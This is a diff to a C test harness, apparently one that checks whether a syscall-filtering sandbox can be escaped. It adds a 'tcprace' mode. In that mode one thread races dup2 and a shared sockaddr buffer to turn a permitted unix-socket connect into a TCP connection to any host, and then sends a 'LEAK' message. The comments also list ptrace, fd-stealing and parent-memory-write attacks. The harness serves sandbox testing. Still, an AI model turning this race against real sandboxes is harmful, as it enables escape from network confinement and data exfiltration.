@@ -12,6 +12,9 @@
  *   attack_fence vmwrite             process_vm_writev and /proc/PPID/mem
  *                                    into the parent (writes back a byte it
  *                                    read, so a success harms nothing)
+ *   attack_fence tcprace HOST PORT   a unix connect (answered with CONTINUE)
+ *                                    while another thread swaps the fd for a
+ *                                    TCP socket and the address for HOST:PORT
  *   attack_fence hold HOST PORT      (run outside sockstrace) a UDP socket
  *                                    connected to HOST:PORT; prints
  *                                    "hold: pid=N fd=N" and waits
@@ -35,6 +38,8 @@
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/un.h>
+#include <time.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
@@ -244,6 +249,73 @@ static int attack_vmwrite(void) {
     return denied == 2 ? 1 : 2;
 }
 
+/* The fd number both threads fight over. */
+#define RACE_FD 200
+
+static union {
+    struct sockaddr_un un;
+    struct sockaddr_in in;
+} race_addr;
+static struct sockaddr_un race_un;
+static struct sockaddr_in race_in;
+static int race_unix, race_tcp;
+static volatile int race_stop;
+
+static void *race_flipper(void *arg) {
+    (void)arg;
+    while (!race_stop) {
+        dup2(race_unix, RACE_FD);
+        memcpy(&race_addr, &race_un, sizeof race_un);
+        for (volatile int i = 0; i < 50; i++)
+            ;
+        dup2(race_tcp, RACE_FD);
+        memset(&race_addr, 0, sizeof race_addr);
+        memcpy(&race_addr, &race_in, sizeof race_in);
+        for (volatile int i = 0; i < 50; i++)
+            ;
+    }
+    return NULL;
+}
+
+static int attack_tcprace(const char *host, const char *port) {
+    race_in = inet_addr_of(host, port);
+    race_un.sun_family = AF_UNIX;
+    snprintf(race_un.sun_path, sizeof race_un.sun_path, "/nonexistent/attack_fence.sock");
+    race_unix = socket(AF_UNIX, SOCK_STREAM, 0);
+    race_tcp = socket(AF_INET, SOCK_STREAM, 0);
+    if (race_unix < 0 || race_tcp < 0)
+        return refused("socket", errno);
+    dup2(race_unix, RACE_FD);
+    memcpy(&race_addr, &race_un, sizeof race_un);
+    pthread_t t;
+    if (pthread_create(&t, NULL, race_flipper, NULL) != 0)
+        return 2;
+    long eacces = 0, tries = 0;
+    time_t end = time(NULL) + 4;
+    while (time(NULL) < end) {
+        for (int i = 0; i < 200; i++, tries++) {
+            if (connect(RACE_FD, (struct sockaddr *)&race_addr, sizeof race_un) != 0 && errno == EACCES)
+                eacces++;
+            struct sockaddr_in peer;
+            socklen_t len = sizeof peer;
+            if (getpeername(race_tcp, (struct sockaddr *)&peer, &len) == 0) {
+                race_stop = 1;
+                const char msg[] = "LEAK via fd race";
+                ssize_t n = send(race_tcp, msg, sizeof msg - 1, MSG_NOSIGNAL);
+                printf("tcprace: ok tries=%ld sent=%zd\n", tries, n);
+                return 0;
+            }
+        }
+    }
+    race_stop = 1;
+    pthread_join(t, NULL);
+    printf("tcprace: tries=%ld eacces=%ld\n", tries, eacces);
+    if (eacces)
+        return refused("tcprace", EACCES);
+    printf("tcprace: lost (the race never reached the kernel)\n");
+    return 2;
+}
+
 static int hold(const char *host, const char *port) {
     int s = socket(AF_INET, SOCK_DGRAM, 0);
     struct sockaddr_in sa = inet_addr_of(host, port);
@@ -267,6 +339,8 @@ int main(int argc, char **argv) {
         return attack_kill();
     if (argc >= 2 && strcmp(argv[1], "vmwrite") == 0)
         return attack_vmwrite();
+    if (argc >= 4 && strcmp(argv[1], "tcprace") == 0)
+        return attack_tcprace(argv[2], argv[3]);
     if (argc >= 4 && strcmp(argv[1], "hold") == 0)
         return hold(argv[2], argv[3]);
     fprintf(stderr, "usage: attack_fence listener HOST PORT | ptrace | steal PID FD | kill | vmwrite | hold HOST PORT\n");
